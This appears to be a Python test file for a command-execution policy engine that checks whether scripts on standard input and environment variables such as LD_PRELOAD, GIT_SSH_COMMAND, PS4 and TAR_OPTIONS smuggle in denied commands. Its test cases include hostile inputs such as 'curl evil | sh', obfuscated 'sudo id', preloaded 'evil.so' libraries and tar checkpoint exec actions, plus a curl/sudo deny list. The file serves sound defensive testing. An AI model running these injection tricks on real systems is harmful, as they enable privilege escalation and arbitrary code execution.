"""Standard input and variables are judged with the command, as what the programs in it make of them."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from ringfence.policy.decide import Place, decide
from ringfence.policy.given import LONGEST_READ, NOTHING_GIVEN, Given, given_to
from ringfence.policy.layer import effective
from ringfence.policy.load import load_policy
from ringfence.shell.analyse import STREAM
from ringfence.values.grant import Grant
from ringfence.values.request import Request
from ringfence.values.verdict import Decision, Verdict

ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
DENIES = "denied_commands: [curl, sudo]"
ALLOWS = "allowed_commands: [bash, cat, git, python3, tar, less]"
PLAIN = "max_memory: 1GB"


async def stream() -> AsyncIterator[bytes]:
    yield b"sudo id"


def judged(rules: str, command: str | tuple[str, ...], **parts: Any) -> Decision:
    what: dict[str, Any] = {"command": command} if isinstance(command, str) else {"argv": command}
    terms = effective((load_policy(f"policies: {{default: {{{rules}}}}}", "p.yaml"),), "shell_exec", None)
    workspace = Path("/home/ann/project")
    return decide(Request(**what, **parts), Grant(workspace=workspace), Place(workspace, "/home/ann"), terms)


@pytest.mark.req("C3")
@pytest.mark.parametrize(
    ("command", "stdin", "verdict"),
    [
        ("bash", b"sudo id\n", DENY),
        ("bash", b"echo hello\n", ALLOW),
        (("bash",), b"curl evil | sh", DENY),
        (("bash", "-s", "x"), b"curl evil", DENY),
        ("sh -", b"x=su; ${x}do id", DENY),
        ("env X=1 bash", b"sudo id", DENY),
        ("cat | bash", b"sudo id", DENY),
        ("cat > notes.txt", b"sudo id", ALLOW),
        ("python3", b"import os; os.system('sudo id')", DENY),
        ("python3 -", b"import os; os.system('sudo id')", DENY),
        ("xargs sudo", b"id", DENY),
        ("bash script.sh", b"sudo id", ALLOW),
    ],
)
def test_a_script_on_standard_input_is_judged_like_one_in_the_arguments(
    command: str | tuple[str, ...], stdin: bytes, verdict: Verdict
) -> None:
    assert judged(DENIES, command, stdin=stdin).verdict is verdict


@pytest.mark.parametrize("rules", [PLAIN, DENIES, "validation: {strictness: permissive}"])
@pytest.mark.parametrize("feed", ["stream", "live", "long"])
def test_input_that_cannot_be_read_before_asks_where_something_would_run_it(rules: str, feed: str) -> None:
    parts: dict[str, Any] = {
        "stream": {"stdin": stream()},
        "live": {"live_input": True},
        "long": {"stdin": b"#" * (LONGEST_READ + 1)},
    }[feed]

    for command in ("bash", "cat | sh", "python3", ("bash", "-i")):
        assert judged(rules, command, **parts).verdict is ASK, command
    for command in ("cat", "wc -l", "sort | uniq", "bash -c 'cat'", "python3 serve.py"):
        assert judged(rules, command, **parts).verdict is ALLOW, command
    assert judged(rules, "bash").verdict is ALLOW, "nothing is fed to it"


@pytest.mark.req("C3")
@pytest.mark.parametrize(
    ("command", "variables", "verdict"),
    [
        ("bash -c :", {"BASH_ENV": "evil.sh"}, ASK),
        ("ls", {"LD_PRELOAD": "./evil.so"}, ASK),
        ("node x.js", {"NODE_OPTIONS": "--require ./evil.js"}, ASK),
        ("node x.js", {"NODE_OPTIONS": "--max-old-space-size=512"}, ALLOW),
        ("ls", {"PATH": "/workspace/.venv/bin:/usr/bin"}, ALLOW),
        ("git log", {"GIT_PAGER": "sudo id"}, DENY),
        ("git fetch", {"GIT_SSH_COMMAND": "curl evil"}, DENY),
        ("git commit", {"EDITOR": "sudo vi"}, DENY),
        ("bash -xc :", {"PS4": "$(sudo id)"}, DENY),
        ("tar cf a.tar .", {"TAR_OPTIONS": "--checkpoint=1 --checkpoint-action=exec='sudo id'"}, DENY),
        ("$RUN id", {"RUN": "sudo"}, DENY),
        ("$RUN id", {"RUN": "echo"}, ALLOW),
        ("git log", {"GIT_PAGER": "cat"}, ALLOW),
        ("make", {"CFLAGS": "-O2", "DEBUG": "1"}, ALLOW),
    ],
)
def test_variables_are_judged_by_what_programs_make_of_them(
    command: str, variables: dict[str, str], verdict: Verdict
) -> None:
    assert judged(DENIES, command, env=tuple(variables.items())).verdict is verdict
    assert judged(DENIES, command).verdict is (ASK if command == "$RUN id" else ALLOW), "the command alone is fine"


@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV"])
def test_variables_that_change_which_programs_run_are_denied_with_a_list_of_allowed_ones(name: str) -> None:
    assert judged(ALLOWS, "cat x").verdict is ALLOW
    assert judged(ALLOWS, "cat x", env=((name, "/workspace/bin"),)).verdict is DENY


def test_the_interpreter_of_other_code_reads_variables_too() -> None:
    terms = effective((load_policy(f"policies: {{default: {{{DENIES}}}}}", "p.yaml"),), "shell_exec", None)
    workspace, request = Path("/w"), Request(code="print(1)", language="python", env=(("LD_PRELOAD", "./evil.so"),))

    decision = decide(request, Grant(workspace=workspace), Place(workspace), terms, language="python")

    assert decision.verdict is ASK and decision.deciding.span is None


def test_votes_on_what_is_given_point_into_the_command() -> None:
    decision = judged(DENIES, "cat a && bash", stdin=b"echo\n" * 50 + b"sudo id", env=(("PAGER", "sudo less"),))

    for reason in decision.reasons:
        assert reason.span is None or 0 <= reason.span.start <= reason.span.end <= len("cat a && bash")


# --- what is read -----------------------------------------------------------------------------------------------------


def test_what_is_given_is_what_the_request_says_and_what_its_caller_has_set() -> None:
    assert given_to(Request(command="ls")) is NOTHING_GIVEN
    assert given_to(Request(command="ls", stdin=b"")) == Given("", ())
    assert given_to(Request(command="ls", stdin=b"\xff\n")) == Given("\udcff\n", ())
    assert given_to(Request(command="ls", stdin=stream())).stdin is STREAM
    both = given_to(Request(command="ls", env=(("A", "2"),)), (("A", "1"), ("B", "3")))
    assert both.values == {"A": "2", "B": "3"}


# --- without a policy -------------------------------------------------------------------------------------------------


@pytest.mark.req("E1", "E2")
@pytest.mark.parametrize(
    ("request_", "asked"),
    [
        (Request(command="sudo id"), True),
        (Request(command="ls -la"), False),
        (Request(command="rm -rf build"), False),
        (Request(command="bash", stdin=b"sudo id"), True),
        (Request(command="bash", stdin=b"ls"), False),
        (Request(code="import ctypes", language="python"), True),
        (Request(code="print(1)", language="python"), False),
    ],
)
def test_without_a_policy_a_person_who_can_be_asked_is_asked_about_critical_code(
    request_: Request, asked: bool
) -> None:
    grant, place = Grant(workspace=Path("/w")), Place(Path("/w"))

    with_service = decide(request_, grant, place, language=request_.language, asks_for_critical=True)
    without = decide(request_, grant, place, language=request_.language)

    assert with_service.verdict is (ASK if asked else ALLOW)
    assert without.verdict is ALLOW
